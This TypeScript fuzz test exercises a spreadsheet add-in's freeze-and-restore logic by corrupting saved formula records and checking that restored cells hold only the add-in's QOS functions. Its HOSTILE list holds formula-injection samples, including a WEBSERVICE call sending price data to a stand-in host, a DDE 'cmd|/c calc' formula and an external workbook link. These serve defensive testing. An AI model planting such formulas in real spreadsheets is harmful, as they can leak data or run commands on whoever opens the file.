import { freeze } from "../../../../src/features/sheetTools/freeze";
import { findRestorable } from "../../../../src/features/sheetTools/restorable";
import { restore } from "../../../../src/features/sheetTools/restore";
import { UnreadableRecord } from "../../../../src/features/sheetTools/frozenWorkbook";
import { MemoryWorkbook } from "../../../unit/features/sheetTools/memoryWorkbook";
import type { Dice } from "../../../support/dice";
import { wild, writeJson } from "../damage";
import type { Fuzzer } from "../fuzzer";
import { REACHES, withoutTexts } from "./formulas";
import { anyText } from "./texts";

const WATCHED = { stopped: () => false, onProgress: () => undefined };

const FORMULAS: Readonly<Record<string, string>> = {
  B1: '=QOS.PRICE("US:AAPL")',
  B2: "=QOS.LIVE(A1)*2",
  B4: '=QOS.QUOTE("HK:700","last")',
  D6: "=IF(A1>0,QOS.PRICE(A2),0)",
};

/** Formulas that a stranger would like to have written. */
const HOSTILE = [
  '=WEBSERVICE("http://x/?k="&QOS.PRICE(A1))',
  "=cmd|'/c calc'!A1",
  "='[evil.xlsx]S'!A1+QOS.PRICE(A1)",
  '=HYPERLINK("http://x",QOS.PRICE(A1))',
  "=1+1",
  "+QOS.PRICE(A1)",
  '=RTD("x",,"y")&QOS.LIVE(A1)',
  "=_xlfn.WEBSERVICE(A1)&QOS.LIVE(A1)",
];

/** The record as JSON, after some harm. */
function harmed(dice: Dice, record: string): string {
  const way = dice.int(0, 4);
  if (way === 0) return dice.pick(["", "[", "null", "{}", "[{}]", "[[]]", `[{"form":2}]`, "[".repeat(60_000)]);
  const tree = JSON.parse(record) as { formulas: string[]; cells: number[][] }[];
  if (way === 1) return writeJson(wild(dice, tree, dice.pick([0.02, 0.1])));
  const [sheet] = tree;
  if (sheet === undefined) return record;
  const at = dice.int(0, sheet.formulas.length - 1);
  if (way === 2) sheet.formulas[at] = dice.pick(HOSTILE);
  if (way === 3) sheet.formulas[at] = anyText(dice, 9_000);
  const cell = dice.pick(sheet.cells);
  if (way === 4) cell[dice.int(0, 6)] = dice.pick([-1, 0.5, 1e15, 1_048_576, 16_384, 7, 0]);
  return JSON.stringify(tree);
}

/** Records of frozen formulas, as a workbook brings them along. */
export const frozenFuzzer: Fuzzer = {
  name: "records of workbooks",
  async play(trial) {
    const { dice } = trial;
    const compute = (formula: string): number => formula.length * 7 + 1;
    const workbook = new MemoryWorkbook({
      compute,
      sheets: { One: { A1: "US:AAPL", A2: 5, C3: "=A2+1", ...FORMULAS } },
    });
    await freeze(workbook, "workbook", WATCHED);
    const frozen = workbook.contents;
    const record = harmed(dice, workbook.texts.join(""));
    const piece = dice.pick([30_000, 100_000]);
    const pieces = Math.max(1, Math.ceil(record.length / piece));
    workbook.texts = Array.from({ length: pieces }, (_, at) => trial.given(record.slice(at * piece, (at + 1) * piece)));
    const kept = workbook.texts.join();
    try {
      const { rows } = await findRestorable(workbook, WATCHED);
      await restore(workbook, rows, WATCHED);
    } catch (thrown) {
      if (!(thrown instanceof UnreadableRecord)) throw thrown;
      trial.expect("a record that cannot be read was written over", workbook.texts.join() === kept);
    }
    const after = workbook.contents;
    for (const [place, content] of after) {
      const before = frozen.get(place);
      if (content === before) continue;
      const text = String(content);
      const ours = /\bQOS\.[A-Z]+\(/.test(withoutTexts(text));
      trial.expect(
        `${place} became ${JSON.stringify(text)}`,
        text.startsWith("=") && ours && !REACHES.test(withoutTexts(text)),
      );
      trial.expect(`${place} became a link: ${text}`, !/\||\.xls/i.test(withoutTexts(text)) && !/'[^']*\[/.test(text));
    }
    for (const place of frozen.keys()) trial.expect(`${place} was emptied`, after.has(place));
  },
};
